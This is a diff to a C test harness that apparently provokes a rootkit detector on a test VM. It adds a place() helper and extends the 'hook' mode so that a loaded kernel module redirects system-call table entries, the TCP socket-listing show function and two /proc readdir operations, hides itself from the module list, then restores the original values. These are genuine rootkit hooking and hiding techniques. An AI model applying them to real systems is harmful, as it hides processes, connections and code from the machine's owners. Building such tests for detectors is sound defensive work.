@@ -3,8 +3,8 @@
  * What a rootkit does, on a test machine only (RATEL_VM=1) and on x86-64: a module of the kernel's
  * is given another beginning, which writes a few words of kernel memory and takes the module out of
  * the kernel's list. No compiler and no headers are needed, and nothing of it is ever called.
- *   rootkit hook SECONDS   leads two system calls and a list of sockets elsewhere, hides itself,
- *                          waits, puts back what it wrote
+ *   rootkit hook SECONDS   leads two system calls, a list of sockets and two directories of /proc
+ *                          elsewhere, hides itself, waits, puts back what it wrote
  */
 #include "provoke.h"
 
@@ -229,34 +229,51 @@ static uint64_t kernel_word(uint64_t at)
 #define NR_SYSFS 139
 #define NOWHERE  UINT64_C(0xffffffffc0ffe000) /* in the room of modules, of none of them */
 
+/* Where a table of functions has one of them. */
+static uint64_t place(const char *table, const char *function)
+{
+    uint64_t at = must(table), to = must(function);
+
+    for (unsigned i = 0; i < 32; i++, at += 8)
+        if (kernel_word(at) == to)
+            return at;
+    check(false);
+    return 0;
+}
+
+#define WORDS 6
+
 static void mode_hook(int argc, char **argv)
 {
     char found[256], owner[256], path[PATH_MAX];
     uint64_t calls = must("sys_call_table"), tcp = must("tcp4_seq_ops");
     uint64_t to = symbol(NULL, found, owner);
-    struct word words[4] = {{calls + 8 * NR_SYSFS, to},
-                            {calls + 8 * NR_USTAT, NOWHERE},
-                            {tcp + 24, to}, /* seq_operations.show */
-                            {0, must("modules")}};
-    struct word back[4];
+    struct word words[WORDS] = {
+        {calls + 8 * NR_SYSFS, to},
+        {calls + 8 * NR_USTAT, NOWHERE},
+        {tcp + 24, to}, /* seq_operations.show */
+        {place("proc_root_operations", "proc_root_readdir"), to},
+        {place("proc_tid_base_operations", "proc_tid_base_readdir"), NOWHERE},
+        {0, must("modules")}};
+    struct word back[WORDS];
     FILE *f;
 
     check(argc == 1);
     if (!to)
         skip("the machine has no module to lead to");
-    for (int i = 0; i < 3; i++)
+    for (int i = 0; i < WORDS - 1; i++)
         back[i] = (struct word){words[i].at, kernel_word(words[i].at)};
-    back[3] = (struct word){0, 0};
+    back[WORDS - 1] = (struct word){0, 0};
     f = popen("modinfo -F filename dummy", "r");
     if (!f || !fgets(path, sizeof(path), f) || pclose(f))
         skip("this kernel has no module dummy");
     path[strcspn(path, "\n")] = '\0';
-    check(load(path, words, 4) == 0);
+    check(load(path, words, WORDS) == 0);
     sleep((unsigned)strtoul(argv[0], NULL, 10));
     f = popen("modinfo -F filename ifb", "r");
     check(f && fgets(path, sizeof(path), f) && !pclose(f));
     path[strcspn(path, "\n")] = '\0';
-    check(load(path, back, 4) == -ENODEV);
+    check(load(path, back, WORDS) == -ENODEV);
     say("SYMBOL", "%s", found);
     say("OWNER", "%s", owner);
     say("AT", "0x%lx", (unsigned long)to);
